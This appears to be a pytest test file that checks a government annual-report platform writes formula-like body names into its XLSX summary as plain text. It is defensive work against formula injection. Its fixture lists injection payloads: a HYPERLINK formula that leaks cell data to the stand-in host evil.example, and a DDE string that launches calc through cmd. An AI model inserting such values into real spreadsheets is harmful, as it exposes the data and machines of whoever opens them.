"""The batch-check summary workbook (annual/web/summary.py): text stays text.

A body's name comes from a list the supervisor typed or pasted and the
findings quote text read from web pages; neither may become a formula in the
workbook (issue #9 item 3), whichever prefix it starts with, full-width
forms included.  The cells go through gongkai.spreadsheets like every other
XLSX writer of the platform.
"""

from __future__ import annotations

import io
from datetime import date

from openpyxl import load_workbook

from gongkai.annual.web.batch import FAILED, OK, Outcome
from gongkai.annual.web.summary import write_summary_xlsx

FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "＝１＋１",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
)


def _outcomes() -> list[Outcome]:
    out = [
        Outcome(
            url=f"https://gov{n}.example/annual/",
            name=name,
            level="county",
            year=2024,
            status=OK,
            organization=name,
            report_year=2024,
            source_format="pdf",
            errors=1,
            findings=[
                {"severity": "error", "code": "t3_total", "message": name, "cells": ["t3.x"]}
            ],
            cells={"t2.fees": "12.5", "t2.normative.issued": -3},
            published_on=date(2025, 1, 20),
            deadline=date(2025, 3, 31),
            days_late=-70,
        )
        for n, name in enumerate(FORMULA_NAMES, start=1)
    ]
    out.append(Outcome(url="https://plain.example/", name="淮安市人民政府", status=FAILED))
    return out


def _workbook():
    return load_workbook(io.BytesIO(write_summary_xlsx(_outcomes())))


def test_formula_like_body_names_are_written_as_text():
    wb = _workbook()
    ws = wb["汇总"]
    names = [ws.cell(row=r, column=2) for r in range(2, 2 + len(FORMULA_NAMES))]
    assert [c.value for c in names] == list(FORMULA_NAMES)  # unchanged text
    for cell in names:
        assert cell.data_type == "s", cell.coordinate  # never a formula
        assert cell.quotePrefix, cell.coordinate  # stays text when edited in Excel/WPS
    plain = ws.cell(row=2 + len(FORMULA_NAMES), column=2)
    assert plain.value == "淮安市人民政府" and plain.data_type == "s"
    assert not plain.quotePrefix


def test_no_sheet_of_the_summary_holds_a_formula():
    wb = _workbook()
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(("=", "＝", "+", "@", "-")):
            assert c.quotePrefix, f"{c.parent.title}!{c.coordinate}"
    # the findings sheet quotes the text as it was
    messages = [r[5] for r in wb["问题"].iter_rows(min_row=2, values_only=True)]
    assert messages == list(FORMULA_NAMES)


def test_numbers_and_dates_stay_numbers_and_dates():
    wb = _workbook()
    ws = wb["汇总"]
    header = [c.value for c in ws[1]]
    row = {h: ws.cell(row=2, column=i) for i, h in enumerate(header, start=1)}
    assert row["序号"].value == 1 and row["序号"].data_type == "n"
    assert row["错误数"].value == 1 and row["错误数"].data_type == "n"
    assert row["公布日期"].value.date() == date(2025, 1, 20)
    assert row["公布日期"].number_format == "yyyy-mm-dd"
    assert row["是否逾期"].value == "按时"
    cells = {r[2]: r[3] for r in wb["单元格"].iter_rows(min_row=2, max_row=3, values_only=True)}
    assert cells == {"t2.fees": 12.5, "t2.normative.issued": -3}
